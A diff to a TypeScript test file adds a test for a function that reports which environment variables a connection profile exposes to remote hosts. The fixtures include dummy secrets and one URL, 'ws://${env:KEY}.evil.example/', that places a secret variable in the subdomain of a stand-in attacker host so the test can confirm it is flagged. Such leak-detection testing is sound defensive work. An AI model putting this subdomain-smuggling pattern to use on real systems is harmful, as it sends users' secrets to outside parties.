@@ -1,7 +1,7 @@
 import assert from 'node:assert/strict';
 import type { ProbePlan } from '../../../src/core/base/plan.js';
 import type { ResolveContext } from '../../../src/core/profile/profile.js';
-import { destinations, profileNeeds } from '../../../src/core/profile/destinations.js';
+import { destinations, profileNeeds, shownVariables } from '../../../src/core/profile/destinations.js';
 import { planFromUrl, resolveText } from '../../../src/core/profile/resolve.js';
 import { assertProblem, marked } from './marked.js';
 
@@ -453,6 +453,32 @@ describe('session options', () => {
     assert.deepEqual([...needs.secrets].sort(), ['a', 'p']);
     assert.deepEqual([needs.env, needs.hosts], [['HOST'], ['api.example.com:8443', 'proxy.example:3128']]);
     assert.deepEqual(profileNeeds('{', { env: {}, baseDir: null }), { secrets: [], env: [], hosts: [] });
+  });
+
+  it('tells which environment variables the hosts are shown: all but their own address and paths of certificates', () => {
+    const env = {
+      HOST: 'api.example.com',
+      BASE: 'wss://api.example.com:8443',
+      PORT: '8443',
+      CA: './ca.pem',
+      KEY: 'hunter2',
+      TENANT: 'acme',
+      WHOLE: 'wss://api.example.com:8443/?token=hunter2',
+      PEM: '-----BEGIN PRIVATE KEY-----\nMIIB\n-----END PRIVATE KEY-----',
+      UNSET: undefined,
+      EMPTY: '',
+    };
+    const text = JSON.stringify({
+      url: '${env:BASE}/x?t=${env:TENANT}&p=${env:PORT}&h=${env:HOST}&n=${env:EMPTY}',
+      tls: { ca: ['${env:CA}'], cert: '${env:CA}', key: '${env:PEM}' },
+      headers: { a: '${env:KEY}', b: '${env:WHOLE}' },
+    });
+    const { plan, names } = resolveText(text, { env, secrets: {}, baseDir: '/' });
+    assert.ok(plan);
+    assert.deepEqual([...shownVariables(plan, names.env, env)].sort(), ['KEY', 'PEM', 'TENANT', 'WHOLE']);
+    const hidden = resolveText('{ "url": "ws://${env:KEY}.evil.example/" }', { env, secrets: {}, baseDir: null });
+    assert.ok(hidden.plan);
+    assert.deepEqual(shownVariables(hidden.plan, hidden.names.env, env), ['KEY']);
   });
 
   it('never tells a host that holds a secret', () => {
